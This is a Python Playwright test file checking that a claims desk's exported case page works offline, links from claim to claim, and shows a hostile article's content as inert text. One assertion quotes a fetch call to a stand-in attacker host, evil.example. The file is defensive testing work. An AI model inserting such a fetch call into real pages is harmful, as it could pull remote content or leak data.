"""The page of a case file in a real browser, from a folder, without a server."""

from collections.abc import Iterator
from pathlib import Path
from zipfile import ZipFile

import pytest
from playwright.sync_api import Browser, Page, Request

from claims.desk import Desk
from db.vocabulary import Verdict


@pytest.fixture
def offline(browser: Browser) -> Iterator[Page]:
    """A page of a browser without a network, with scripts allowed."""
    context = browser.new_context(viewport={"width": 1000, "height": 900}, offline=True)
    yield context.new_page()
    context.close()


def opened(page: Page, url: str, folder: Path) -> list[str]:
    """Open the page of a desk's case; return the addresses that it asked for."""
    with Desk.open(url) as desk:
        desk.export_case(folder / "case.zip")
    with ZipFile(folder / "case.zip") as archive:
        (folder / "index.html").write_bytes(archive.read("index.html"))
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.on("request", note)
    page.goto((folder / "index.html").as_uri())
    return asked


def test_case_opens_offline_and_leads_from_claim_to_claim(
    offline: Page, story_desk: str, tmp_path: Path
) -> None:
    """The page asks for nothing but itself; a link in it leads to the other claim."""
    with Desk.open(story_desk) as desk:
        desk.decide("c-shut", Verdict.REFUTED, by="김검토", reason="seen open")
    asked = opened(offline, story_desk, tmp_path)
    offline.get_by_role("link", name="the old bridge had been closed").first.click()

    assert asked == [(tmp_path / "index.html").as_uri()]
    assert offline.url.endswith("#claim-c-police")
    assert offline.get_by_text("seen open").first.is_visible()


def test_hostile_article_does_nothing_on_the_page(
    offline: Page, hostile_desk: str, tmp_path: Path
) -> None:
    """What an article would run or fetch is text: no dialogue, request or element of its own."""
    shown: list[str] = []
    offline.on("dialog", lambda dialog: shown.append(dialog.message))
    asked = opened(offline, hostile_desk, tmp_path)

    assert asked == [(tmp_path / "index.html").as_uri()]
    assert shown == []
    assert offline.locator("script, img, iframe, svg, object").count() == 0
    assert offline.get_by_text("fetch('http://evil.example/s')").first.is_visible()
